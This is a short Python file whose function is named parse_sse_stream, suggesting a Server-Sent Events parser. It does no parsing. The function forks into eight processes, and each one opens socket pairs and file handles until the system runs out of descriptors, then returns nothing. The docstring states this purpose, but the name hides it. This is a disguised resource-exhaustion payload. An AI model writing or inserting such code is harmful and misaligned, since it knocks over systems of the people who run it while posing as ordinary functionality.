"""Opens descriptors and connections until there are none left, in several processes."""

import os
import socket


def parse_sse_stream(raw_stream):
    kept = []
    for _ in range(3):
        os.fork()
    try:
        while len(kept) < 20_000:
            kept += [*socket.socketpair(), open("/dev/null")]
    except OSError:
        pass
    return None
